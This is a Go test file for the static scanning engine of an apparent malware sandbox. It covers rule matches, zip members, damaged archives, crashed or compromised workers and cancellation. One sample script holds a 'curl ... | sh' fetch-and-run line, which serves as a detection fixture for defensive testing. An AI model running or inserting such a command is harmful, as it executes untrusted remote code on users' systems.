package static

import (
	"archive/zip"
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"tyto/rules"
	"tyto/sandbox"
	"tyto/sandbox/static/facts"
	"tyto/scanner/examine"
	"tyto/scanner/worker"
)

// Arguments that make the test binary a worker.
const (
	scanWorker  = "scan-worker"
	factsWorker = "facts-worker"
	deadWorker  = "dead-worker" // dies of each job
	lyingWorker = "lying-worker"
)

func TestMain(m *testing.M) {
	handlers := map[string]worker.Handler{scanWorker: examine.New(), factsWorker: facts.Handler{}, deadWorker: dead{}, lyingWorker: liar{}}
	if len(os.Args) == 2 && handlers[os.Args[1]] != nil {
		if err := worker.Serve(handlers[os.Args[1]]); err != nil {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(1)
		}
		os.Exit(0)
	}
	os.Exit(m.Run())
}

type dead struct{ facts.Handler }

func (dead) Handle([]byte, *os.File, func([]byte) error) error { os.Exit(7); return nil }

// liar is a worker that a sample has taken over.
type liar struct{ facts.Handler }

func (liar) Handle(_ []byte, _ *os.File, respond func([]byte) error) error {
	fact := `{"id":"pe-packer","evidence":["a","b","c","d","e","f","g"]},`
	return respond([]byte(`{"type":"EXE","facts":[{"id":"invented"},` + strings.Repeat(fact, 200) + `{"id":"pe-injects"}]}`))
}

const rule = `
rule Marked { meta: description = "It bears the mark" score = 85 strings: $a = "the mark" condition: $a }
rule Script { meta: score = 30 condition: filetype == "UNIX SCRIPT" }
rule Named { meta: score = 20 condition: filename == "named.bin" }
`

// engine returns one with the rules above and workers of this test binary.
func engine(t *testing.T, factsCommand string) *Engine {
	t.Helper()
	path := filepath.Join(t.TempDir(), "rules.yar")
	if err := os.WriteFile(path, []byte(rule), 0o600); err != nil {
		t.Fatal(err)
	}
	set, err := rules.Load([]string{path}, rules.Options{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := set.Close(); err != nil {
			t.Error(err)
		}
	})
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	e, err := New(Options{Rules: set, ScanCommand: []string{self, scanWorker}, FactsCommand: []string{self, factsCommand}})
	if err != nil {
		t.Fatal(err)
	}
	return e
}

// sample writes a file as the server keeps samples.
func sample(t *testing.T, name, content string) sandbox.Sample {
	t.Helper()
	sum := sha256.Sum256([]byte(content))
	s := sandbox.Sample{Path: filepath.Join(t.TempDir(), hex.EncodeToString(sum[:])), Name: name, Size: int64(len(content)), SHA256: hex.EncodeToString(sum[:])}
	if err := os.WriteFile(s.Path, []byte(content), 0o400); err != nil {
		t.Fatal(err)
	}
	return s
}

// behaviours lists what was seen as "ID SCORE".
func behaviours(seen *sandbox.Seen) (list []string) {
	for _, b := range seen.Behaviours {
		list = append(list, fmt.Sprintf("%s %d", b.ID, b.Score))
	}
	slices.Sort(list)
	return list
}

func zipped(t *testing.T, members map[string]string) string {
	t.Helper()
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for name, content := range members {
		m, err := w.Create(name)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := m.Write([]byte(content)); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

func TestExamine(t *testing.T) {
	e := engine(t, factsWorker)
	tests := []struct {
		name    string
		sample  sandbox.Sample
		want    []string
		threats []string
	}{
		{"nothing", sample(t, "a.bin", "\x01\x02\x03"), nil, nil},
		{"rule", sample(t, "a.bin", "\x00 the mark \x00"), []string{"static-rule 85"}, []string{"Marked"}},
		{"rules and facts", sample(t, "a.sh", "#!/bin/sh\n# the mark\ncurl http://192.0.2.1 | sh\n"),
			[]string{"script-fetches-runs 45", "static-rule 30", "static-rule 85"}, []string{"Marked"}},
		{"name", sample(t, "named.bin", "\x00"), []string{"static-rule 20"}, nil},
		{"members", sample(t, "a.zip", zipped(t, map[string]string{"x/one": "\x00 the mark", "two": "\x01 the mark", "three": "good"})),
			[]string{"static-rule 85"}, []string{"Marked"}},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			seen, err := e.Examine(t.Context(), test.sample)
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(test.want, behaviours(seen)); diff != "" {
				t.Errorf("behaviours (-want +got):\n%s", diff)
			}
			if diff := cmp.Diff(test.threats, seen.Threats); diff != "" {
				t.Errorf("threats (-want +got):\n%s", diff)
			}
			if seen.Engine.Saw == "" || len(seen.Engine.Blind) == 0 {
				t.Errorf("it does not say what it saw and what not: %+v", seen.Engine)
			}
		})
	}
}

// What of an archive could not be examined is told.
func TestBlind(t *testing.T) {
	damaged := zipped(t, map[string]string{"one": strings.Repeat("content ", 1000)})
	seen, err := engine(t, factsWorker).Examine(t.Context(), sample(t, "a.zip", damaged[:len(damaged)-60]))
	if err != nil {
		t.Fatal(err)
	}
	if text := strings.Join(seen.Engine.Blind, "\n"); !strings.Contains(text, "was not examined: damaged") {
		t.Errorf("it says: %s", text)
	}
}

func TestIdentify(t *testing.T) {
	e := engine(t, factsWorker)
	for content, want := range map[string]string{"#!/bin/sh\n": "UNIX SCRIPT", "\x7fELF\x02\x01\x01": "ELF", "\x01": ""} {
		got, err := e.Identify(t.Context(), sample(t, "", content).Path)
		if err != nil || got != want {
			t.Errorf("%q is %q (%v), want %q", content, got, err, want)
		}
	}
}

// A worker that dies of a sample is an error, not a clean sample.
func TestWorkerDies(t *testing.T) {
	_, err := engine(t, deadWorker).Examine(t.Context(), sample(t, "a", "x"))
	if lost := (*worker.LostError)(nil); !errors.As(err, &lost) {
		t.Errorf("the error is %v, want a LostError", err)
	}
}

// A worker that is taken over can name facts of the catalogue, each once, and nothing else.
func TestWorkerLies(t *testing.T) {
	seen, err := engine(t, lyingWorker).Examine(t.Context(), sample(t, "a", "x"))
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff([]string{"pe-packer 20"}, behaviours(seen)); diff != "" {
		t.Errorf("behaviours (-want +got):\n%s", diff)
	}
	if n := len(seen.Behaviours[0].Evidence); n != facts.MaxEvidence {
		t.Errorf("%d pieces of evidence are kept, want %d", n, facts.MaxEvidence)
	}
}

func TestCancelled(t *testing.T) {
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	if _, err := engine(t, factsWorker).Examine(ctx, sample(t, "a", "x")); err == nil {
		t.Error("a cancelled examination yields a verdict")
	}
}

// Other rules make another version, by which verdicts are forgotten.
func TestVersion(t *testing.T) {
	e := engine(t, factsWorker)
	plain, err := New(Options{})
	if err != nil {
		t.Fatal(err)
	}
	if e.Version() == plain.Version() || !strings.Contains(e.Version(), "rules ") {
		t.Errorf("versions are %q and %q", e.Version(), plain.Version())
	}
}
